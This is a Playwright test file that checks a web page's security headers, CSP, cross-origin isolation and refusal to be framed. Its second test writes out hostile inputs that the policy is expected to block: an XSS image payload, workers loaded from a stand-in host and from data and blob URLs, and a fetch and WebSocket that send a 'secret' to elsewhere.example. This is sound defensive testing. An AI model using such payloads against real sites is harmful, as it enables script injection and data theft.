import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { type BuiltPage, serveBuiltPage } from './support/built-page.ts';
import { serveFolder } from './support/static-host.ts';

/** A page of somebody else that lays a frame over itself. */
function framing(url: string): Server {
  return createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end(`<title>Elsewhere</title><iframe src="${url}" width="800" height="600"></iframe>`);
  });
}

async function listening(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
}

test.describe('The security headers of the page', () => {
  let built: BuiltPage;
  const servers: Server[] = [];
  const serve = (server: Server) => {
    servers.push(server);
    return listening(server);
  };
  test.beforeAll(async () => {
    test.setTimeout(600_000);
    built = await serveBuiltPage();
  });
  test.afterAll(async () => {
    for (const server of servers) server.close();
    await built?.stop();
  });

  test('come with the page, its scripts, its workers and what is missing', async ({ request }) => {
    const { headers } = await request.get(built.url).then((page) => ({ headers: page.headers() }));
    const page = await (await request.get(built.url)).text();
    const script = /assets\/index-[\w-]+\.js/.exec(page)?.[0];
    expect(script).toBeDefined();
    for (const path of [script ?? '', 'sw.js', 'network.json', 'theme.js']) {
      const answer = (await request.get(`${built.url}${path}`)).headers();
      for (const name of ['content-security-policy', 'x-content-type-options', 'referrer-policy'])
        expect(answer[name], `${name} of ${path}`).toBe(headers[name]);
    }
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['cross-origin-opener-policy']).toBe('same-origin');
    expect(headers['permissions-policy']).toContain('camera=()');
  });

  test('let the page work without a violation, isolated, and stop what is smuggled in', async ({ page }) => {
    const told: string[] = [];
    page.on('console', (message) => {
      if (/Content Security Policy|Trusted/i.test(message.text())) told.push(message.text());
    });
    await page.goto(built.url);
    await expect(page.getByTestId('contribute')).toBeVisible();
    await page.getByTestId('screen-models').click();
    await expect(page.getByTestId('model-url')).toBeVisible();
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    expect(told).toEqual([]);
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);

    const refused = await page.evaluate(async () => {
      const directives: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        directives.push(effectiveDirective),
      );
      const tried: Record<string, () => unknown> = {
        html: () => {
          document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
        },
        script: () => {
          document.createElement('script').text = 'alert(1)';
        },
        worker: () => new Worker('https://elsewhere.example/worker.js'),
        data: () => new Worker('data:text/javascript,postMessage(1)'),
        blob: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
      };
      const threw: string[] = [];
      for (const [name, attempt] of Object.entries(tried)) {
        try {
          attempt();
        } catch {
          threw.push(name);
        }
      }
      const fetched = await fetch('https://elsewhere.example/?secret').then(
        () => 'sent',
        () => 'refused',
      );
      const socket = await new Promise<string>((resolve) => {
        try {
          const opened = new WebSocket('wss://elsewhere.example/');
          opened.onopen = () => resolve('sent');
          opened.onerror = () => resolve('refused');
        } catch {
          resolve('refused');
        }
      });
      await new Promise((resolve) => setTimeout(resolve, 200));
      return { directives, threw, fetched, socket };
    });
    expect(refused.threw).toEqual(expect.arrayContaining(['html', 'script', 'worker', 'data']));
    expect(refused).toMatchObject({ fetched: 'refused', socket: 'refused' });
    expect(refused.directives).toContain('worker-src');
    expect(refused.directives.filter((name) => name === 'connect-src')).toHaveLength(2);
  });

  test('refuse a model of a host that the network file does not name, with the remedy', async ({ page }) => {
    await page.goto(`${built.url}#/models`);
    await page.getByTestId('model-url').fill('https://models.example/little');
    await page.getByTestId('model-download').click();
    await expect(page.getByTestId('failure-download')).toContainText('modelHosts in its network.json');
  });

  test('keep the page out of the frames of other origins', async ({ page }) => {
    await page.goto(await serve(framing(built.url)));
    await expect.poll(() => page.frames().length).toBe(2);
    const [, frame] = page.frames();
    await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
    await expect(page.frameLocator('iframe').getByTestId('contribute')).toHaveCount(0);
  });

  test('are missing at a static host, where the page itself refuses to run in a frame', async ({ page }) => {
    const host = await serveFolder(built.folder);
    await page.goto(host.url);
    await expect(page.getByTestId('contribute')).toBeVisible();
    await page.goto(await serve(framing(host.url)));
    const frame = page.frameLocator('iframe');
    await expect(frame.getByText('Open it in a window of its own.')).toBeVisible();
    await expect(frame.getByTestId('contribute')).toHaveCount(0);
    await host.stop();
  });
});
